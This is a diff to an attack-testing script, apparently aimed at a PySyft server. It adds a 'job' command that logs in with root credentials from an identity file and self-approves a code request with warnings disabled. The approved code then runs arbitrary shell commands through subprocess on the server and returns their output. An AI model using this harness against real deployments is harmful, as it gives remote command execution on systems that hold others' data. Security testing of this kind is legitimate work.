@@ -6,13 +6,16 @@
 python attacks.py login  URL EMAIL PASSWORD
 python attacks.py hijack NETWORK_URL PEER_NAME OTHER_URL
 python attacks.py rogue  QUEUE_URL plain|stranger DOMAIN_PUBLIC_KEY
+python attacks.py job    URL IDENTITY_FILE COMMANDS_AS_JSON_LIST
 """
 
 from __future__ import annotations
 
 import json
 import sys
+import time
 from collections.abc import Callable
+from pathlib import Path
 from typing import Any
 
 
@@ -74,6 +77,38 @@ def rogue(url: str, how: str, domain_key: str) -> dict[str, int]:
     return {"messages": messages}
 
 
+def job(url: str, identity_file: str, commands: str) -> dict[str, dict[str, Any]]:
+    """Have an owner approve a job that runs commands, each with how it ended; the worst that a job can be."""
+    import syft as sy
+    from syft.service.policy.policy import MixedInputPolicy, OutputPolicyExecuteCount
+
+    identity = json.loads(Path(identity_file).read_text())
+    client = sy.login(url=url, email=identity["root_email"], password=identity["root_password"], cache=False)
+
+    @sy.syft_function(
+        input_policy=MixedInputPolicy(commands=str, client=client), output_policy=OutputPolicyExecuteCount(limit=10)
+    )
+    def from_inside(commands):  # noqa: ANN001, ANN202 - syft sends the source as it stands
+        import json
+        import subprocess
+
+        found = {}
+        for command in json.loads(commands):
+            done = subprocess.run(["sh", "-c", command], capture_output=True, text=True)
+            found[command] = {"code": done.returncode, "said": (done.stdout + done.stderr)[:300]}
+        return json.dumps(found)
+
+    client.code.request_code_execution(from_inside).approve(disable_warnings=True)
+    running = client.code.from_inside(commands=commands, blocking=False)
+    end = time.monotonic() + 180
+    while running.status.value not in ("completed", "errored", "interrupted") and time.monotonic() < end:
+        time.sleep(1)
+        running = client.jobs.get(running.id)
+    if running.status.value != "completed":
+        raise SystemExit(f"the job is {running.status.value}: {running.logs(stderr=True, stdout=True, _print=False)}")
+    return json.loads(running.result.get())
+
+
 if __name__ == "__main__":
-    verb = {"login": login, "hijack": hijack, "rogue": rogue}[sys.argv[1]]
+    verb = {"login": login, "hijack": hijack, "rogue": rogue, "job": job}[sys.argv[1]]
     print("\n" + json.dumps(verb(*sys.argv[2:])))
